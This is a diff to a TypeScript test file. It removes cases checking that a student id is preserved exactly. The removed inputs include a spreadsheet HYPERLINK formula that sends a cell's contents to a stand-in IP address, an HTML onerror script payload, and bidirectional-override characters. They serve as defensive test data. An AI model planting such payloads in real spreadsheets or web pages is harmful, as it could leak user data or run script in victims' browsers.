@@ -1,27 +1,6 @@
 import { expect, it } from 'vitest';
 import { describeWithPython, withPython } from '../fixtures/python.ts';
-import { between, crawl, describeTable, json, say, says, student } from './table.ts';
-
-const exactIds = [
-  ['a formula', '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'],
-  ['HTML', '<img src=x onerror=alert(1)>&amp;"\'</td>'],
-  ['marks that turn the direction of text', '\u202e240\u2066\u200b'],
-  ['64 characters outside the basic plane', '😀'.repeat(64)],
-  ['the text of an escape sequence', '\\e[31m \\u001b \\x1b'],
-] as const;
-const exact = exactIds.map(([title, id]) => ({
-  title,
-  server: says(JSON.stringify({ ...student, id })),
-  expected: { status: 'ok' as const, student: { ...student, id }, notes: [] },
-}));
-describeTable('an id stays as it was sent, with', [
-  ...exact,
-  {
-    title: 'everything a student keeps private',
-    server: says('{"id": "=1+1", "declined": true}'),
-    expected: { status: 'declined', declined: { id: '=1+1' }, notes: [] },
-  },
-]);
+import { between, crawl, json, say, says } from './rows.ts';
 
 describeWithPython('an object', () => {
   it('is the same reply at whichever byte it is cut in two', async () => {
